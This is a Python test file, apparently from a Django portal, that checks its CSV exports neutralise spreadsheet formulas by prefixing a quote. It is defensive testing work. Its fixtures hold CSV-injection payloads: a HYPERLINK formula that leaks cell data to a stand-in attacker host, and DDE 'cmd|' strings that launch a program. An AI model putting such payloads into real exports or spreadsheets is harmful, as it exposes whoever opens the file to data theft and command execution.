"""Every CSV the portal writes neutralises spreadsheet formulas the same way (issue 17, points 7 and 8).

The reproduction: ``=HYPERLINK(...)`` in an organisation cell came back unchanged in the statistics CSV
download, while the subscriber export already neutralised formulas.
"""

import csv
import io

from django.urls import reverse

from hypothesis import given
from hypothesis import strategies as st

from portal.core.spreadsheets import FORMULA_STARTS, safe_cell, safe_row
from tests.newsletter.factories import SubscriberFactory
from tests.portal.stats.conftest import add_observation, figures, make_dataset

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def rows_of(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


def test_the_statistics_csv_neutralises_a_formula_in_an_organisation_cell(client, db):
    dataset = make_dataset("hostile")
    add_observation(dataset, 2014, "DE", organisation=HOSTILE,
                    **figures(300, 150, 100, 90, 5, 5))
    add_observation(dataset, 2014, "NL", organisation="-1+cmd|' /C calc'!A0", **figures(-3, 1, 1, 1, 1, 1))
    rows = rows_of(client.get("/statistics-data/datasets/hostile.csv"))
    organisations = [row[2] for row in rows[1:]]
    assert "'" + HOSTILE in organisations
    assert "'-1+cmd|' /C calc'!A0" in organisations
    assert "-3" in rows[2]  # numbers, negative ones too, stay numbers


def test_the_subscriber_export_uses_the_same_rule_for_every_column(admin_client):
    SubscriberFactory(email="=cmd|calc@example.org", source="@import")
    rows = rows_of(admin_client.get(reverse("newsletter_subscribers:index"), {"export": "csv"}))
    row = next(row for row in rows if "calc@example.org" in row[0])
    assert row[0] == "'=cmd|calc@example.org"
    assert "'@import" in row


@given(st.text(max_size=40))
def test_no_cell_starts_like_a_formula_unless_it_is_a_plain_number(text):
    cell = safe_cell(text)
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only numbers such as -3 or +1.5 keep their sign
    assert cell in (text, "'" + text)
    assert safe_row([text, None, 5]) == [cell, "", "5"]
